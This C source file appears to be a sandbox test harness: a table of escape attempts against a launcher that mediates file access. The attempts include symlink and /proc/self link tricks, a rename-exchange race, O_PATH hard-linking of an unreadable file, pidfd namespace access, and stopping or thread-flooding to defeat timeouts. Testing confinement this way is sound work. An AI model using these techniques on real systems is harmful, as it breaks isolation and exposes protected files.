/* What somebody tries who has read the promises and not the code: odd ways to the same ends. `port` is the granted port: that
 * it listens makes the program ready. */
#include "attack.h"

#include <arpa/inet.h>
#include <fcntl.h>
#include <limits.h>
#include <netinet/in.h>
#include <pthread.h>
#include <signal.h>
#include <sys/ioctl.h>
#include <sys/socket.h>
#include <sys/stat.h>
#include <sys/wait.h>
#include <time.h>

#ifndef FIOSETOWN
#define FIOSETOWN 0x8901
#define FIOGETOWN 0x8903
#endif

enum { TRIES = 20, PAUSE_MS = 100, SYS_SETXATTRAT = 463, SYS_FILE_SETATTR = 469, GET_MOUNT_NAMESPACE = 0xff03 };

static void pause_ms(long ms) {
  struct timespec time = {ms / 1000, ms % 1000 * 1000000};
  while (nanosleep(&time, &time) != 0 && errno == EINTR) {}
}

static int become_ready(void) {
  struct sockaddr_in address = {.sin_family = AF_INET, .sin_port = htons((uint16_t)number_param("port"))};
  address.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  int fd = socket(AF_INET, SOCK_STREAM, 0);
  if (fd < 0 || bind(fd, (struct sockaddr *)&address, sizeof address) != 0 || listen(fd, 4) != 0) return -1;
  return fd;
}

/* Owners of a socket get its signals. F_SETOWN is one way to name one, this older request is another. */
static int own_by_request(void) {
  int pair[2], owner = number_param("launcher"), told = 0;
  if (socketpair(AF_UNIX, SOCK_STREAM, 0, pair) != 0) return failed("socketpair");
  if (ioctl(pair[0], FIOSETOWN, &owner) != 0) return failed("ioctl(FIOSETOWN)");
  if (ioctl(pair[0], FIOGETOWN, &told) != 0) return failed("ioctl(FIOGETOWN)");
  return told == owner ? succeeded("the launcher gets signals of our socket") : failed_because("FIOGETOWN", "another");
}

/* Where its thread keeps its locks tells where the launcher's memory lies. */
static int read_robust_list(void) {
  void *head = NULL;
  size_t length = 0;
  if (syscall(SYS_get_robust_list, number_param("launcher"), &head, &length) != 0) return failed("get_robust_list");
  return succeeded("the launcher's list lies at %p", head);
}

/* A descriptor of a process gives descriptors of its namespaces, with no path and no setns. */
static int namespace_by_process(void) {
  int process = (int)syscall(SYS_pidfd_open, number_param("launcher"), 0);
  if (process < 0) return failed("pidfd_open");
  int found = ioctl(process, GET_MOUNT_NAMESPACE, 0);
  return found < 0 ? failed("ioctl(PIDFD_GET_MNT_NAMESPACE)") : succeeded("mount namespace of the launcher");
}

/* Calls of younger kernels that change what chmod and setxattr change. */
static int attributes_by_new_call(void) {
  struct { uint64_t value; uint32_t size, flags; } given = {(uintptr_t)"planted", 7, 0};
  if (syscall(SYS_SETXATTRAT, AT_FDCWD, param("readable"), 0, "user.planted", &given, sizeof given) != 0)
    return failed("setxattrat");
  return succeeded("an attribute was planted");
}

static int flags_by_new_call(void) {
  struct { uint64_t flags; uint32_t extent, extents, project, copy; } given = {0x80, 0, 0, 0, 0}; /* no dump */
  if (syscall(SYS_FILE_SETATTR, AT_FDCWD, param("readable"), &given, sizeof given, 0) != 0) return failed("file_setattr");
  return succeeded("flags of the file were changed");
}

/* A name of our own for a file that we may not read, through a descriptor that gives no right. */
static int link_by_handle(void) {
  char from[64];
  int handle = open(param("canary"), O_PATH | O_CLOEXEC);
  if (handle < 0) return failed("open(O_PATH)");
  snprintf(from, sizeof from, "/proc/self/fd/%d", handle);
  const char *name = scratch("borrowed");
  if (linkat(AT_FDCWD, from, AT_FDCWD, name, AT_SYMLINK_FOLLOW) != 0) return failed("linkat");
  const char *text = first_bytes(name);
  return text == NULL ? failed("open") : succeeded("%s", text);
}

/* A stopped program does not hear of its end, and a launcher that stops with it does not count the time. */
static int stay_stopped(void) {
  pid_t self = getpid(), waker = fork();
  if (waker < 0) return failed("fork");
  if (waker == 0) {
    setsid();
    for (int i = 0; i < 40; i++) {
      pause_ms(100);
      kill(self, i < 38 ? SIGSTOP : SIGCONT);
    }
    _exit(0);
  }
  raise(SIGSTOP);
  pause_ms(300);
  return succeeded("still here");
}

static volatile int over;
static void *ask_without_end(void *path) {
  while (!over) {
    int fd = open(path, O_RDONLY | O_CLOEXEC);
    if (fd >= 0) close(fd);
  }
  return NULL;
}

/* Many threads ask at once and all the time: who answers has no time to look at the clock. */
static int drown_clock(void) {
  char path[PATH_MAX];
  snprintf(path, sizeof path, "%s", param("canary"));
  pthread_t threads[32];
  int count = 0;
  while (count < 32 && pthread_create(&threads[count], NULL, ask_without_end, path) == 0) count++;
  for (int i = 0; i < 40; i++) pause_ms(100);
  over = 1;
  for (int i = 0; i < count; i++) pthread_join(threads[i], NULL);
  return succeeded("%d threads were still here", count);
}

/* Who opens files in our place waits where we let him wait: at a pipe that nobody reads, by a link to its descriptor. */
static int ready_pipe(void) {
  char path[PATH_MAX], canary[PATH_MAX];
  snprintf(path, sizeof path, "%s", scratch("pipe"));
  snprintf(canary, sizeof canary, "%s", param("canary"));
  int ends[2];
  char target[64];
  if (pipe2(ends, O_CLOEXEC) != 0) return failed("pipe2");
  close(ends[0]);
  snprintf(target, sizeof target, "/proc/%d/fd/%d", getpid(), ends[1]);
  if (symlink(target, path) != 0) return failed("symlink");
  if (become_ready() < 0) return failed("listen-first");
  pause_ms(1000);
  pid_t waiting = fork();
  if (waiting == 0) _exit(open(path, O_WRONLY | O_CLOEXEC) < 0);
  pause_ms(500);
  pid_t asking = fork();
  if (asking == 0) _exit(open(canary, O_RDONLY | O_CLOEXEC) < 0 ? errno & 127 : 0);
  int status = 0, ended = 0;
  for (int i = 0; i < 50 && !ended; i++) {
    ended = waitpid(asking, &status, WNOHANG) == asking;
    pause_ms(100);
  }
  if (waiting > 0) kill(waiting, SIGKILL);
  if (asking > 0 && !ended) kill(asking, SIGKILL);
  if (!ended) return succeeded("nobody is answered any more");
  if (status == 0) return succeeded("opened the key");
  errno = WEXITSTATUS(status);
  return failed("open");
}

/* Who opens files in our place follows our links. */
static int ready_link(void) {
  char name[PATH_MAX];
  snprintf(name, sizeof name, "%s", scratch("link"));
  if (symlink(param("victim"), name) != 0) return failed("symlink");
  if (become_ready() < 0) return failed("listen-first");
  for (int i = 0; i < TRIES; i++, pause_ms(PAUSE_MS)) {
    int fd = open(name, O_WRONLY | O_APPEND | O_CLOEXEC);
    if (fd < 0) return failed("open");
    if (write(fd, "x", 1) != 1) return failed("write");
    close(fd);
  }
  return succeeded("wrote through the link");
}

/* For whoever follows our link, /proc/self is somebody else. Which descriptor it is there does not matter as long as it is
 * nothing but what everybody may open. */
static int ready_self_link(void) {
  enum { HIGHEST = 40 };
  char link[PATH_MAX], target[64];
  struct stat null, opened;
  snprintf(link, sizeof link, "%s", scratch("self"));
  if (stat("/dev/null", &null) != 0) return failed("stat");
  if (become_ready() < 0) return failed("listen-first");
  pause_ms(1500);
  for (int i = -2; i < HIGHEST; i++) {
    unlink(link);
    if (i < 0) snprintf(target, sizeof target, "/proc/self/%s", i == -2 ? "mem" : "comm");
    else snprintf(target, sizeof target, "/proc/self/fd/%d", i);
    if (symlink(target, link) != 0 || (i >= 0 && access(target, F_OK) == 0)) continue;
    int fd = open(link, O_RDWR | O_CLOEXEC | O_NONBLOCK);
    if (fd < 0) continue;
    if (fstat(fd, &opened) != 0 || opened.st_ino != null.st_ino || opened.st_dev != null.st_dev)
      return succeeded("opened %s of somebody else", target);
    close(fd);
  }
  errno = EACCES;
  return failed("open");
}

/* A folder of ours and a link out of it change places while somebody walks the path. */
static void *exchange_names(void *names) {
  char **both = names;
  while (!over) (void)syscall(SYS_renameat2, AT_FDCWD, both[0], AT_FDCWD, both[1], 2 /* exchange */);
  return NULL;
}

static int ready_exchange(void) {
  char folder[PATH_MAX], link[PATH_MAX], path[PATH_MAX + 8];
  snprintf(folder, sizeof folder, "%s", scratch("folder"));
  snprintf(link, sizeof link, "%s", scratch("out"));
  snprintf(path, sizeof path, "%s/victim", folder);
  if (mkdir(folder, 0700) != 0 || write_file(path, "ours\n", 0600) != 0) return failed("prepare");
  if (symlink(param("outside"), link) != 0) return failed("symlink");
  struct stat victim, opened;
  if (stat(param("victim"), &victim) != 0) return failed("stat");
  if (become_ready() < 0) return failed("listen-first");
  pause_ms(1000);
  char *both[] = {folder, link};
  pthread_t thread;
  if (pthread_create(&thread, NULL, exchange_names, both) != 0) return failed("pthread_create");
  int got = 0, denied = 0;
  for (int i = 0; i < 4000 && !got; i++) {
    int fd = open(path, O_WRONLY | O_CLOEXEC);
    if (fd < 0) denied++;
    if (fd >= 0 && fstat(fd, &opened) == 0) got = opened.st_ino == victim.st_ino && opened.st_dev == victim.st_dev;
    if (fd >= 0) close(fd);
  }
  over = 1;
  pthread_join(thread, NULL);
  if (got) return succeeded("opened the victim for writing");
  errno = EACCES;
  return failed(denied > 0 ? "open" : "race-never-won");
}

const struct attempt outside_one_attempts[] = {
    {"own-by-request", own_by_request},
    {"read-robust-list", read_robust_list},
    {"namespace-by-process", namespace_by_process},
    {"attributes-by-new-call", attributes_by_new_call},
    {"flags-by-new-call", flags_by_new_call},
    {"link-by-handle", link_by_handle},
    {"stay-stopped", stay_stopped},
    {"drown-clock", drown_clock},
    {"ready-pipe", ready_pipe},
    {"ready-link", ready_link},
    {"ready-self-link", ready_self_link},
    {"ready-exchange", ready_exchange},
    {NULL, NULL},
};
